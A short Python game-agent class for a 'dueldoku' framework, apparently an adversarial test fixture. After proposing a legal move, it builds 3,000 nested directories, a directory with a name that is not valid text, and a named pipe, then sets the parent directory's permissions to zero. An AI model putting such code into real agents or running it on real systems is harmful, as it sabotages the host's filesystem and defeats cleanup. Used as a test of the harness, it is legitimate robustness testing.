"""Leaves folders in folders, deeper than any path is long, with names that are no text and modes that let nobody in."""

import contextlib
import os

from dueldoku.agents.base import Agent as Base


class Agent(Base):
    def think(self, game, task):
        task.propose(next(game.legal_moves()))
        with contextlib.suppress(OSError):
            for _ in range(3_000):
                os.mkdir("d")
                os.chdir("d")
            os.mkdir(b"\xff\xfe")
            os.mkfifo("pipe")
            os.chmod("..", 0)
